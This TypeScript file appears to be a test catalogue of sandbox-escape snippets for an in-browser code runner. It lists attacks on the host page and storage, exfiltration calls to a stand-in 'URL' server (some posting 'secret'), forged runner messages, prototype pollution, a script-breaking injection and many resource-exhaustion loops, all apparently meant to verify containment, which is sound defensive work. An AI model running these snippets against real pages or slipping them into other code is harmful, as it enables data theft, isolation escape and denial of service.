/** A snippet that attacks the page, the network, or the sandbox itself. */
export interface Attack {
  name: string
  /**
   * `URL` stands for a server that records every connection and request to it, and `HOST` for its address and port, at
   * which it also records packets without a connection.
   */
  code: string
  /** It keeps its thread busy, or takes much memory. */
  isHeavy?: boolean
  /**
   * It navigates a frame. Browsers that don't know the header `Connection-Allowlist` may prepare a connection for that
   * before they ask the policy. Nothing is sent.
   */
  navigates?: boolean
}

/** Marks the attacks with these names. */
export function mark(
  attacks: readonly Attack[],
  traits: Omit<Attack, 'name' | 'code'>,
  names: readonly string[],
): Attack[] {
  const unknown = names.filter((name) => !attacks.some((attack) => attack.name === name))
  if (unknown.length > 0) throw new Error(`No attack is called ${unknown.join(', ')}.`)
  return attacks.map((attack) => (names.includes(attack.name) ? { ...attack, ...traits } : attack))
}

/** Runs whatever the global object still has under a name. */
const call = (name: string, use: string) =>
  `const found = (globalThis as any).${name}; console.log(typeof found); if (found) { const it: any = found; ${use} }`

/** Asks the server for the reader's address, which browsers do without asking any policy. */
export const connectPeer = (constructor: string) =>
  `const peer = new ${constructor}({ iceServers: [{ urls: 'stun:HOST' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`

const attempt = (code: string) => `try { ${code} } catch (error) { console.log(String(error)) }`

/** What leaves its mark at the page, or reads what is the page's. */
const PAGE: readonly Attack[] = [
  ['parent', attempt("(globalThis as any).parent.document.title = 'hacked'")],
  ['top', attempt("(globalThis as any).top.location = 'URL/top'")],
  ['opener', attempt("(globalThis as any).opener.location.href = 'URL/opener'")],
  ['window', attempt("(globalThis as any).window.document.cookie = 'hacked=1'")],
  ['document.cookie', attempt("(globalThis as any).document.cookie = 'hacked=1'")],
  ['document.write', attempt('(globalThis as any).document.write(\'<img src="URL/write">\')')],
  [
    'an iframe',
    attempt(
      "const frame = (globalThis as any).document.createElement('iframe'); frame.src = 'URL/frame'; (globalThis as any).document.body.append(frame)",
    ),
  ],
  ['location', call('location', "it.href = 'URL/location'")],
  ['location.replace', attempt("(globalThis as any).location.replace('URL/replace')")],
  ['open', call('open', "it('URL/open')")],
  ['alert', call('alert', "it('hacked')")],
  ['history', call('history', "it.pushState(null, '', '/hacked')")],
  ['frames', attempt("(globalThis as any).frames[0].postMessage('hacked', '*')")],
  [
    'the constructor of a function',
    "const all: any = (() => 0).constructor.constructor('return this')(); console.log(typeof all.document, typeof all.parent, typeof all.postMessage)",
  ],
  [
    'an indirect eval',
    "const all: any = (0, eval)('this'); console.log(typeof all.document, typeof all.fetchLater)",
  ],
  [
    'a generator’s constructor',
    "const made: any = (function* () {}).constructor as any; console.log([...made('yield typeof document')()])",
  ],
].map(([name = '', code = '']) => ({ name, code }))

/** What stores. */
const STORAGE: readonly Attack[] = [
  ['localStorage', attempt("(globalThis as any).localStorage.setItem('hacked', '1')")],
  ['sessionStorage', attempt("(globalThis as any).sessionStorage.setItem('hacked', '1')")],
  ['indexedDB', call('indexedDB', "it.open('hacked')")],
  [
    'indexedDB of the prototype',
    attempt(
      "Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)), 'indexedDB')!.get!.call(globalThis).open('hacked')",
    ),
  ],
  ['caches', call('caches', "await it.open('hacked')")],
  ['cookieStore', call('cookieStore', "await it.set('hacked', '1')")],
  ['navigator.storage', call('navigator', 'await it.storage.getDirectory()')],
  ['file systems', call('webkitRequestFileSystem', 'it(0, 1, () => 0)')],
].map(([name = '', code = '']) => ({ name, code }))

/** What sends something away. */
const NETWORK: readonly Attack[] = [
  ['fetch', "await fetch('URL/fetch').catch((error) => console.log(String(error)))"],
  [
    'fetch with a Request',
    "await fetch(new Request('URL/request', { method: 'POST', body: 'secret' })).catch(() => 0)",
  ],
  [
    'fetch of the prototype',
    attempt(
      "(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)) as any).fetch.call(globalThis, 'URL/prototype')",
    ),
  ],
  [
    'deleting our fetch',
    "delete (globalThis as any).fetch; await Promise.resolve((globalThis as any).fetch?.('URL/deleted'))",
  ],
  [
    'XMLHttpRequest',
    call('XMLHttpRequest', "const request = new it(); request.open('GET', 'URL/xhr', false); request.send()"),
  ],
  ['WebSocket', call('WebSocket', "new it('URL/socket'.replace('http', 'ws'))")],
  ['WebTransport', call('WebTransport', "new it('https://localhost:1/transport')")],
  ['EventSource', call('EventSource', "new it('URL/events')")],
  ['sendBeacon', attempt("(globalThis as any).navigator.sendBeacon('URL/beacon', 'secret')")],
  [
    'import() of an address',
    "await import('URL/import.js' as string).catch((error) => console.log(String(error)))",
  ],
  [
    'import() in a text',
    'await new Function("return import(\'URL/function.js\')")().catch((error: unknown) => console.log(String(error)))',
  ],
  [
    'import() of data',
    'await new Function("return import(\'data:text/javascript,export default 1\')")().catch((error: unknown) => console.log(String(error)))',
  ],
  [
    'import() of a blob',
    "const url = URL.createObjectURL(new Blob([\"import 'URL/blob.js'\"], { type: 'text/javascript' })); await new Function('url', 'return import(url)')(url).catch((error: unknown) => console.log(String(error)))",
  ],
  ['a static import of an address', "import 'URL/static.js'"],
  ['importScripts', call('importScripts', "it('URL/scripts.js')")],
  ['a nested worker', call('Worker', "new it('URL/worker.js')")],
  [
    'a nested worker of a blob',
    call('Worker', 'new it(URL.createObjectURL(new Blob([\'fetch("URL/nested")\'])))'),
  ],
  ['a shared worker', call('SharedWorker', "new it('URL/shared.js')")],
  [
    'a service worker',
    attempt("await (globalThis as any).navigator.serviceWorker.register('URL/service.js')"),
  ],
  ['BroadcastChannel', call('BroadcastChannel', "new it('hacked').postMessage('secret')")],
  ['a font', call('FontFace', "await new it('hacked', 'url(URL/font)').load()")],
  ['RTCPeerConnection', call('RTCPeerConnection', connectPeer('it'))],
  ['an image', call('Image', "new it().src = 'URL/image'")],
  ['WebAssembly by streaming', attempt("await WebAssembly.compileStreaming(fetch('URL/wasm'))")],
  ['a source map', 'console.log(1)\n//# sourceMappingURL=URL/map'],
].map(([name = '', code = '']) => ({ name, code }))

/** What speaks to the page in the runner's name. */
const CHANNEL: readonly Attack[] = [
  [
    'postMessage',
    call(
      'postMessage',
      "it({ type: 'event', event: { type: 'ended', reason: 'done' } }); while (true) it('flood')",
    ),
  ],
  [
    'postMessage of the prototype',
    attempt("(Object.getPrototypeOf(globalThis) as any).postMessage.call(globalThis, 'hacked')"),
  ],
  [
    'a forged message to the runner',
    "dispatchEvent(new MessageEvent('message', { data: { task: { files: [], entries: [] } } }))",
  ],
  [
    'a forged port',
    "const { port1, port2 } = new MessageChannel(); dispatchEvent(new MessageEvent('message', { data: 'connect', ports: [port2] })); port1.postMessage('hacked'); console.log('sent')",
  ],
  [
    'patched ports',
    "MessagePort.prototype.postMessage = () => { throw 1 }; MessageChannel.prototype.constructor = null as never; console.log('patched')",
  ],
  [
    'numbers of claims',
    "for (const number of [-1, 1e308, Number.NaN, '0', { valueOf: () => 1 }, 2n] as any[]) try { (import.meta as any).sample.equals(number, 1, 1) } catch (error) { console.log(error) }",
  ],
  ['a claim’s number that is a function', '(import.meta as any).sample.equals(() => 1, 1, 1)'],
  [
    '__proto__ keys',
    'console.log(JSON.parse(\'{"__proto__": { "hacked": true }, "constructor": { "prototype": 1 } }\')); (Object.prototype as any).type = \'ended\'; (Object.prototype as any).reason = \'done\'; (Object.prototype as any).place = { file: \'x\', line: 1, column: 1 }',
  ],
  [
    'setters on Object.prototype',
    "Object.defineProperty(Object.prototype, 'event', { set() { throw new Error('caught you') }, get: () => 1, configurable: true }); console.log('set')",
  ],
  ['closing itself', call('close', 'it()')],
].map(([name = '', code = '']) => ({ name, code }))

/** What tries to take the browser's time or memory. */
const EXHAUSTION: readonly Attack[] = [
  ['an endless loop', 'while (true) {}'],
  [
    'an endless loop of microtasks',
    'const again = (): void => void Promise.resolve().then(again); again(); await new Promise(() => 0)',
  ],
  [
    'an endless loop of timers',
    'const again = (): void => void setTimeout(again, 0); again(); await new Promise(() => 0)',
  ],
  ['an endless loop of intervals', 'setInterval(() => 0, 1); await new Promise(() => 0)'],
  [
    'an endless loop of messages',
    'const { port1, port2 } = new MessageChannel(); port1.onmessage = () => port2.postMessage(0); port2.postMessage(0); await new Promise((done) => setTimeout(done, 1e12)); while (true) await 0',
  ],
  [
    'an endless generator',
    'function* numbers() { while (true) yield 1 } for (const number of numbers()) void number',
  ],
  ['a slow regular expression', "console.log(/^(a+)+$/.test('a'.repeat(60) + 'b'))"],
  ['an endless import', "while (true) await import('./index')"],
  ['recursion', 'const deeper = (): number => deeper() + 1; deeper()'],
  [
    'recursion through JSON',
    'const value = { toJSON(): unknown { return JSON.stringify(value) } }; JSON.stringify(value)',
  ],
  ['a circular structure', 'const circle: any = {}; circle.self = circle; console.log(circle)'],
  ['text that doubles', "let text = 'x'; while (true) text += text"],
  ['an array that is too long', 'new Array(-1)'],
  [
    'an array that grows',
    'const all: number[][] = []; while (true) all.push(new Array(1000).fill(Math.random()))',
  ],
  ['buffers', 'const all: ArrayBuffer[] = []; while (true) all.push(new ArrayBuffer(2 ** 30))'],
  ['a flood of output', "while (true) console.log('x')"],
  ['a flood of long output', "while (true) console.log('x'.repeat(1_000_000))"],
  ['a flood of claims', 'while (true) (import.meta as any).sample.equals(0, 1, 1)'],
  [
    'a flood of rejections',
    'for (let count = 0; count < 100_000; count += 1) void Promise.reject(new Error(String(count)))',
  ],
  ['a huge value', 'console.log(Array.from({ length: 1e6 }, (_, index) => ({ index, deep: { deep: {} } })))'],
  [
    'Atomics.wait',
    'try { Atomics.wait(new Int32Array(new (globalThis as any).WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0) } catch (error) { console.log(String(error)) }',
  ],
].map(([name = '', code = '']) => ({ name, code }))

/** What makes the runner itself trip. */
const TRAPS: readonly Attack[] = [
  ['a getter that throws', "console.log({ get value() { throw new Error('got') } })"],
  [
    'a proxy whose traps throw',
    'console.log(new Proxy({}, { get() { throw 1 }, ownKeys() { throw 2 }, getPrototypeOf() { throw 3 } }))',
  ],
  ['a proxy that never ends', 'console.log(new Proxy({}, { getPrototypeOf() { while (true) {} } }))'],
  ['toString that throws', "console.log(`${{ toString() { throw new Error('no text') } }}`)"],
  [
    'an inspection that throws',
    "console.log({ [Symbol.for('nodejs.util.inspect.custom')]() { throw new Error('seen') } })",
  ],
  [
    'a claim of a value that can’t be written',
    '(import.meta as any).sample.equals(0, new Proxy({}, { ownKeys() { throw 1 } }), 1)',
  ],
  [
    'an error with a message that throws',
    "throw { get message() { throw new Error('no') }, get stack() { throw new Error('no') } }",
  ],
  [
    'an error with a stack that is no text',
    "const error: any = new Error('x'); error.stack = { toString() { throw 1 } }; throw error",
  ],
  [
    'an error whose name is a symbol',
    "const error: any = new Error('x'); error.name = Symbol('name'); throw error",
  ],
  ['throwing nothing', 'throw undefined'],
  [
    'throwing a proxy',
    'throw new Proxy({}, { has() { throw 1 }, get() { throw 2 }, getPrototypeOf() { throw 3 } })',
  ],
  ['another console', "(globalThis as any).console = { log() {} }; console.log('lost')"],
  ['another Promise', "(globalThis as any).Promise = class {}; console.log('no promise')"],
  [
    'a Promise that never calls',
    "Promise.prototype.then = function () { return this } as never; console.log('no then'); await 0",
  ],
  ['another JSON', '(globalThis as any).JSON = null; console.log({ a: 1 })'],
  [
    'other arrays',
    "Array.prototype.map = Array.prototype.flatMap = () => { throw new Error('map') }; console.log([1])",
  ],
  [
    'another Error.prepareStackTrace',
    "(Error as any).prepareStackTrace = () => { throw 1 }; console.log('stack'); throw new Error('x')",
  ],
  [
    'Error.stackTraceLimit',
    "Object.defineProperty(Error, 'stackTraceLimit', { get() { throw 1 } }); console.log('limit')",
  ],
  ['another Date', "(globalThis as any).Date = null; console.log('no date')"],
  [
    'listeners that hide errors',
    "addEventListener('error', (event) => event.stopImmediatePropagation(), true); addEventListener('unhandledrejection', (event) => event.stopImmediatePropagation(), true); setTimeout(() => { throw new Error('hidden') }); await new Promise((done) => setTimeout(done, 9))",
  ],
  ['a body that ends the function', '}); globalThis.escaped = true; (async () => {'],
  ['code that ends the script', "console.log('</script><script>alert(1)</script>')"],
].map(([name = '', code = '']) => ({ name, code }))

const ALL = [...PAGE, ...STORAGE, ...NETWORK, ...CHANNEL, ...EXHAUSTION, ...TRAPS]

/** All attacks; their names are unique. */
export const ATTACKS: readonly Attack[] = mark(
  mark(ALL, { navigates: true }, ['an iframe', 'location', 'location.replace']),
  { isHeavy: true },
  [...EXHAUSTION.map(({ name }) => name), 'postMessage', 'a proxy that never ends'],
)
